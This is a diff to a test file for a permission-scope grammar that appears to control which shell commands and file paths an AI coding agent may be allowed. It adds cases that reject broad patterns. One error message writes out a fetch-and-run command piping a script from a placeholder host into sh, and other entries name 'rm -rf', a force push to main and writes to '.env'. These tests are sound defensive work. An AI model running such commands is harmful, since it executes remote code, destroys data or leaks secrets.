@@ -11,6 +11,10 @@ describe("scope grammar", () => {
     ["tool_group:file_write", { kind: "tool_group", value: "file_write" }],
     ["bash_pattern:npm test*", { kind: "bash_pattern", value: "npm test*" }],
     ["write_path:src/*.ts", { kind: "write_path", value: "src/*.ts" }],
+    ["bash_pattern:git push origin feature/*", { kind: "bash_pattern", value: "git push origin feature/*" }],
+    // An exact command or path names only what the human saw: not "broad", even when dangerous.
+    ["bash_pattern:git push --force origin main", { kind: "bash_pattern", value: "git push --force origin main" }],
+    ["write_path:.env", { kind: "write_path", value: ".env" }],
   ])("accepts %j", (raw, scope) => {
     expect(parseScope(raw)).toEqual({ ok: true, scope });
   });
@@ -28,6 +32,23 @@ describe("scope grammar", () => {
     ["write_path:**/*", /too broad/],
     ["bash_pattern:a*", /too broad/],
     ["tool_type_session", /unknown scope/],
+    // Scopes that cannot be broader than they look.
+    ["bash_pattern:[!~]*", /only \* and \?/],
+    ["bash_pattern:git push origin [a-z]*", /only \* and \?/],
+    ["write_path:src/{a,b}/*", /only \* and \?/],
+    ["bash_pattern:*rm -rf", /literal command name/],
+    ["bash_pattern:g?t push origin main", /literal command name/],
+    ["bash_pattern:git *", /too broad: it would also allow `git push --force origin main`/],
+    ["bash_pattern:sudo *", /too broad/],
+    ["bash_pattern:sh -c *", /too broad/],
+    ["bash_pattern:curl *", /too broad: it would also allow `curl -s https:\/\/x.example\/i.sh \| sh`/],
+    ["bash_pattern:python3 *", /too broad/],
+    ["bash_pattern:find *", /too broad/],
+    ["write_path:.*", /too broad/],
+    ["write_path:.git*", /too broad/],
+    ["write_path:.claude/*", /too broad/],
+    ["write_path:.github/*", /too broad/],
+    ["write_path:/home/*", /too broad/],
   ])("rejects %j", (raw, re) => {
     const r = parseScope(raw);
     expect(r.ok).toBe(false);
@@ -55,6 +76,7 @@ describe("globs", () => {
     ["src/*.ts", "src/a/b.ts", true],
     ["file?.txt", "file1.txt", true],
     ["file[!0-9].txt", "file1.txt", false],
+    ["file[!0-9].txt", "file[!0-9].txt", true], // no character classes: [ is literal
     ["a.b", "axb", false],
     ["(x)+", "(x)+", true],
   ])("%j matches %j: %s", (g, t, want) => expect(globMatch(g, t)).toBe(want));
